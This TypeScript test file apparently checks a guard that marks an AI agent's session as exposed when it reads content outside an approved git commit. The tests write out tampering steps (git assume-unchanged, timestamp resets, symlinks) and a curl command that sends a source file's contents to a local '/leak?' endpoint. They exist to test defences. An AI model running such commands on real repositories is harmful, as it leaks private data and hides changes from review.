import assert from "node:assert/strict";
import { test } from "node:test";
import { head, makeRepository, played, READ, trust } from "./labelled.ts";
import { call, ringfence, run, sh, type Turn } from "./program.ts";

test("what is not of the approved commit raises the session, whatever git's index, links or times say", async (t) => {
  const { place } = await makeRepository(t);
  await trust(place, ["commit", head(place)]);
  const labels = async (...turns: Turn[]) => (await played(place, turns)).label;
  // The index is told to look away, and size and time stay as they were.
  sh(
    place,
    "git update-index --assume-unchanged src/a.js; touch -r src/a.js ../t; echo 7 >src/a.js; touch -r ../t src/a.js",
  );
  assert.equal(await labels(READ), "local private");
  assert.equal(await labels(run("true")), "local private");
  sh(place, "echo x >new.txt; ln -sf ../new.txt src/b.js");
  assert.equal(await labels(call("read", { path: "new.txt" })), "external private");
  assert.equal(await labels(call("read", { path: "src/b.js" })), "external private");
  const foreign = await played(place, [run("true")]);
  assert.match(foreign.rises.at(-1) ?? "", /new\.txt, which is not of the commit that you approved/);
  sh(place, "rm new.txt; git checkout -q src; git hash-object -w --stdin <<<'a stranger'");
  assert.match((await played(place, [run("true")])).rises.at(-1) ?? "", /what else the git folder holds/);
  sh(place, "git commit -qm 'a stranger' --allow-empty");
  assert.equal(await labels(READ), "external private");
});

test("what a command hears raises the session at once: its own next address, a page for the model, a commit that lands", async (t) => {
  const { place, asked, address, get } = await makeRepository(t);
  await trust(place, ["commit", head(place)]);
  const curl = (path: string) => `curl -sS --noproxy '' '${address}${path}'`;
  const command = `${curl("/heard")} >/tmp/heard; ${curl("/leak?")}$(cat src/a.js); cp /tmp/heard src/b.js; git commit -qam heard`;
  const first = await played(place, [run(command), get("/leak"), run("sleep 1; echo over", { background: true })]);
  assert.deepEqual(asked, ["/heard"]);
  assert.match(first.results[0]?.text ?? "", /external text and private data were within reach/);
  assert.deepEqual([first.results[1]?.ok, first.label], [false, "external private"]);
  assert.equal((await ringfence(place, ["land"])).status, 0);
  assert.match(sh(place, "git log --format=%s -1"), /heard/);
  assert.equal((await played(place, [READ])).label, "external private", "nobody approved that commit");
});

test("while a command runs in the background, what is read counts as a stranger's", async (t) => {
  const { place } = await makeRepository(t);
  await trust(place, ["commit", head(place)]);
  const { label } = await played(place, [run("sleep 5", { background: true }), READ]);
  assert.equal(label, "external private");
});
